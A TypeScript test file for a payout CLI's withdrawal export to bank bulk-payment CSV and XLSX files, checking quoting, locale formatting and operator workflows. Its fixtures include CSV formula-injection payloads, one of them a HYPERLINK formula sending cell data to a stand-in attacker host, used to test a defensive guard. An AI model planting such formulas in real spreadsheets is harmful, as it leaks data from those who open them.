  t.is(csvCell('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
  t.is(csvCell("Ali=Veli"), "Ali=Veli", "only a leading sign makes a formula");
});

test("bankPaymentCsv: the header, then name, IBAN, lira and transaction id per withdrawal, CRLF line ends, exact bytes", (t) => {
  const w = (id: string, accountName: string, amount: bigint) => create(WithdrawalSchema, { id, accountName, iban: "TR330006100519786457841326", amount, currency: "TRY" });
  const csv = bankPaymentCsv([w("wdr_a", 'Yılmaz, Ayşe "Aşkım"', 150050n), w("wdr_b", "@Şükrü Öğüt", 99n), w("wdr_c", "Çağrı İnce", 1000000n)]);
  t.is(
    csv,
    "Recipient name,IBAN,Amount,Description\r\n" +
      '"Yılmaz, Ayşe ""Aşkım""",TR330006100519786457841326,1500.50,wdr_a\r\n' +
      "'@Şükrü Öğüt,TR330006100519786457841326,0.99,wdr_b\r\n" +
      "Çağrı İnce,TR330006100519786457841326,10000.00,wdr_c\r\n",
  );
  t.is(bankPaymentCsv([]), "Recipient name,IBAN,Amount,Description\r\n", "nothing to pay: the header alone");
});

test("withdrawal export --awaiting-operator --format csv writes the bank's bulk-payment CSV of a live merchant's withdrawals awaiting an operator, oldest first, exact bytes, on stdout or with --out", async (t) => {
  const merchantId = await newLiveMerchant("Live Export Shop");
  await fund(merchantId, 200_000_000n);
  const specs: Array<[string, bigint, string]> = [
    ['Yılmaz, Ayşe "Aşkım"', 150050n, turkishIban("0006200000000000000101")],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")', 5n, turkishIban("0006200000000000000102")],
    ["+90 532 000 00 00", 100n, turkishIban("0006200000000000000103")],
    ["-Öztürk Çelik", 123456789n, turkishIban("0006200000000000000104")],
    ["@Şükrü Ğ", 99n, turkishIban("0006200000000000000105")],
    ["Ümran İnce", 1000000n, turkishIban("0006200000000000000106")],
  ];
  const created: Withdrawal[] = [];
  for (const [name, amount, iban] of specs) {
    created.push(await liveWithdrawal(merchantId, amount, name, iban));
    await sleep(3); // distinct creation times: the file's order is the order they were made
  }
  const [a, b, c, d, e, f] = created.map((w) => ({ id: w.id, iban: w.iban }));
  const expected =
    "Recipient name,IBAN,Amount,Description\r\n" +
    `"Yılmaz, Ayşe ""Aşkım""",${a!.iban},1500.50,${a!.id}\r\n` +
    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Tıkla"")",${b!.iban},0.05,${b!.id}\r\n` +
    `'+90 532 000 00 00,${c!.iban},1.00,${c!.id}\r\n` +
    `'-Öztürk Çelik,${d!.iban},1234567.89,${d!.id}\r\n` +
    `'@Şükrü Ğ,${e!.iban},0.99,${e!.id}\r\n` +
    `Ümran İnce,${f!.iban},10000.00,${f!.id}\r\n`;

  const r = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--format", "csv", "--merchant", merchantId]);
  t.is(r.code, 0, r.stderr);
  t.is(r.stderr, "");
  t.is(r.stdout, CSV_BOM + expected, "the byte-order mark, then the file");

  const file = join(dataDir, "bulk-payment.csv");
  const written = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId, "--out", file]);
  t.is(written.code, 0, written.stderr);
  const bytes = await readFile(file);
  t.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  t.is(bytes.toString("utf8"), CSV_BOM + expected);
  t.is((await stat(file)).mode & 0o777, 0o600, "names and IBANs: readable by its owner only");
  t.is(written.stdout, `Wrote 6 withdrawal(s), 124607043 kuruş (1246070.43 TRY) in all, to ${file}.\n`);
  const summary = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId, "--out", file, "--json"]);
  t.deepEqual(singleJson(summary.stdout), { file, count: 6, total: 124607043 });

  // Paid in the bank: completed with the bank's reference, it leaves the file; a failed one too.
  t.is((await payoutCli(["withdrawal", "complete", a!.id, "--bank-reference", "EFT-20261122-77"])).code, 0);
  t.is((await payoutCli(["withdrawal", "fail", b!.id, "--reason", "NAME_MISMATCH"])).code, 0);
  const after = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId]);
  t.is(after.stdout, CSV_BOM + ["Recipient name,IBAN,Amount,Description", ...expected.split("\r\n").slice(3)].join("\r\n"));
});

test("withdrawal export --locale tr, --no-bom and --format xlsx --out: Turkish CSV bytes, a CSV without the mark, a spreadsheet read-excel-file opens with numbers for amounts and text for IBANs", async (t) => {
  const merchantId = await newLiveMerchant("Live Export Locale Shop");
  await fund(merchantId, 200_000_000n);
  const specs: Array<[string, bigint, string]> = [
    ['Yılmaz, Ayşe "Aşkım"', 150050n, turkishIban("0006200000000000000201")],
    ["=1+1;Çağla", 5n, turkishIban("0006200000000000000202")],
    ["-Öztürk Çelik", 123456789n, turkishIban("0006200000000000000203")],
  ];
  const created: Withdrawal[] = [];
  for (const [name, amount, iban] of specs) {
    created.push(await liveWithdrawal(merchantId, amount, name, iban));
    await sleep(3);
  }
  const [a, b, c] = created;
  const exportOf = (...args: string[]) => payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId, ...args]);

  // Turkish: Turkish headers, `;` between cells, comma decimals; the formula guard and quoting as ever.
  const tr = await exportOf("--locale", "tr");
  t.is(tr.code, 0, tr.stderr);
  const turkish =
    "Alıcı adı;IBAN;Tutar;Açıklama\r\n" +
    `"Yılmaz, Ayşe ""Aşkım""";${a!.iban};1500,50;${a!.id}\r\n` +
    `"'=1+1;Çağla";${b!.iban};0,05;${b!.id}\r\n` +
    `'-Öztürk Çelik;${c!.iban};1234567,89;${c!.id}\r\n`;
  t.is(tr.stdout, CSV_BOM + turkish);
  const trFile = join(dataDir, "bulk-payment-tr.csv");
  t.is((await exportOf("--locale", "TR", "--format", "csv", "--out", trFile)).code, 0);
  t.deepEqual(await readFile(trFile), Buffer.from(CSV_BOM + turkish, "utf8"));
  const rows = parseCsv(await readFile(trFile), { bom: true, delimiter: ";" });
  t.deepEqual(rows, [
    ["Alıcı adı", "IBAN", "Tutar", "Açıklama"],
    ['Yılmaz, Ayşe "Aşkım"', a!.iban, "1500,50", a!.id],
    ["'=1+1;Çağla", b!.iban, "0,05", b!.id],
    ["'-Öztürk Çelik", c!.iban, "1234567,89", c!.id],
  ]);
  t.deepEqual(rows.slice(1).map((r) => BigInt(r[2]!.replace(",", ""))), [150050n, 5n, 123456789n], "the amounts convert back to kuruş exactly");

  // --no-bom: the same file without its first three bytes.
  const plain = await exportOf("--no-bom", "--locale", "tr");
  t.is(plain.stdout, turkish);
  const english = await exportOf("--no-bom");
  t.true(english.stdout.startsWith("Recipient name,IBAN,Amount,Description\r\n"));

  // XLSX, only to a file.
  const refused = await exportOf("--format", "xlsx");
  t.is(refused.code, 2);
  t.is(refused.stdout, "");
  t.regex(refused.stderr, /--format xlsx .*give --out FILE/);
  t.is((await exportOf("--format", "xlsx", "--no-bom", "--out", join(dataDir, "no.xlsx"))).code, 2);

  for (const locale of ["en", "tr"] as const) {
    const file = join(dataDir, `bulk-payment-${locale}.xlsx`);
    const written = await exportOf("--format", "xlsx", "--locale", locale, "--out", file, "--json");
    t.is(written.code, 0, written.stderr);
    t.deepEqual(singleJson(written.stdout), { file, count: 3, total: 123606844 });
    t.is((await stat(file)).mode & 0o777, 0o600);
    const bytes = await readFile(file);
    t.deepEqual([...bytes.subarray(0, 4)], [0x50, 0x4b, 0x03, 0x04], `${locale}: a zip file, no byte-order mark`);
    const sheet = await xlsxRows(bytes);
    t.deepEqual(sheet, [
      locale === "en" ? ["Recipient name", "IBAN", "Amount", "Description"] : ["Alıcı adı", "IBAN", "Tutar", "Açıklama"],
      // Text as it is (a spreadsheet cell of text is never a formula), amounts as lira numbers.
      ['Yılmaz, Ayşe "Aşkım"', a!.iban, 1500.5, a!.id],
      ["=1+1;Çağla", b!.iban, 0.05, b!.id],
      ["-Öztürk Çelik", c!.iban, 1234567.89, c!.id],
    ]);
    for (const row of sheet.slice(1)) {
      t.is(typeof row[1], "string", "the IBAN is text");
      t.is(typeof row[2], "number", "the amount is a number");
    }
    const layout = xlsxLayout(bytes);
    t.is(layout.frozenRows, 1);
    t.like(Object.fromEntries(layout.formats), { A2: "@", B2: "@", C2: "#,##0.00", D2: "@", C4: "#,##0.00" });
    t.false(xlsxPart(bytes, "xl/worksheets/sheet1.xml").includes("<f>"), "no formula");
  }
});

test("a live withdrawal waits for an operator: list --awaiting-operator shows it across merchants (never a sandbox one in the export), complete --bank-reference pays out the held amount, fail returns it", async (t) => {
  const live = await newLiveMerchant("Live Worklist Shop");
  const sandbox = await newMerchant("Sandbox Worklist Shop");
  await fund(live, 100_000n);
  await fund(sandbox, 100_000n);
  const toPay = await liveWithdrawal(live, 40_000n, "Elif Şahin", turkishIban("0001000000000012345678"));
  const toRefuse = await liveWithdrawal(live, 10_000n, "Can Ak", turkishIban("0001000000000012345679"));
  const sandboxWaiting = await processingWithdrawal(sandbox, 5_000n);
  t.deepEqual(await tryBalance(live), { currency: "TRY", available: 50_000, held: 50_000 });

  // No --merchant: every merchant, asked for explicitly (the service refuses an empty merchant otherwise).
  const listed = await payoutCli(["withdrawal", "list", "--awaiting-operator", "--limit", "100", "--json"]);
  t.is(listed.code, 0, listed.stderr);
  const ids = (singleJson(listed.stdout) as { withdrawals: WithdrawalJson[] }).withdrawals.map((w) => w.id);
  t.true([toPay.id, toRefuse.id, sandboxWaiting.id].every((id) => ids.includes(id)));
  const mine = await payoutCli(["withdrawal", "list", "--merchant", live, "--awaiting-operator", "--json"]);
  t.deepEqual(
    (singleJson(mine.stdout) as { withdrawals: WithdrawalJson[] }).withdrawals.map((w) => [w.id, w.status, w.awaitingOperator, w.sandbox]),
    [
      [toRefuse.id, "WITHDRAWAL_STATUS_PROCESSING", true, false],
      [toPay.id, "WITHDRAWAL_STATUS_PROCESSING", true, false],
    ],
  );
  const human = await payoutCli(["withdrawal", "list", "--merchant", live, "--awaiting-operator"]);
  t.regex(human.stdout, new RegExp(`${toPay.id}\\s+${live}\\s+live\\s+${toPay.processId}\\s+processing \\(awaiting operator\\)`));

  const everything = await payoutCli(["withdrawal", "export", "--awaiting-operator"]);
  t.true(everything.stdout.includes(toPay.id) && everything.stdout.includes(toRefuse.id));
  t.false(everything.stdout.includes(sandboxWaiting.id), "sandbox withdrawals never go to a bank");

  const shown = await payoutCli(["withdrawal", "show", toPay.id]);
  t.regex(shown.stdout, /kind\s+live/);
  t.regex(shown.stdout, /awaiting operator\s+yes/);

  const paid = await payoutCli(["withdrawal", "complete", toPay.id, "--bank-reference", "EFT-LIVE-1", "--json"]);
  t.is(paid.code, 0, paid.stderr);
  t.like((singleJson(paid.stdout) as { withdrawal: WithdrawalJson }).withdrawal, { status: "WITHDRAWAL_STATUS_COMPLETED", bankReference: "EFT-LIVE-1", awaitingOperator: false, sandbox: false });
  t.like((await ledgerJson(live)).entries[0], { kind: "withdrawal_settle", availableDelta: 0, heldDelta: -40_000, transactionId: toPay.id });
  t.is((await payoutCli(["withdrawal", "fail", toRefuse.id, "--reason", "ACCOUNT_CLOSED"])).code, 0);
  t.deepEqual(await tryBalance(live), { currency: "TRY", available: 60_000, held: 0 });
  t.like(await showJson(toPay.id), { bankReference: "EFT-LIVE-1" });
});
